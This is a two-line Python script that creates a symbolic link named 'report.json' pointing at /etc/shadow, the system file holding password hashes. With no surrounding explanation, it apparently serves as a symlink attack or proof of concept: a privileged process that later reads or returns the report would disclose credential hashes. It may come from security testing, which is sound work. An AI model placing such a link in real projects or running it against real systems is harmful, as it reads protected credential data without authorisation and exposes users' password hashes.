import os

os.symlink("/etc/shadow", "report.json")
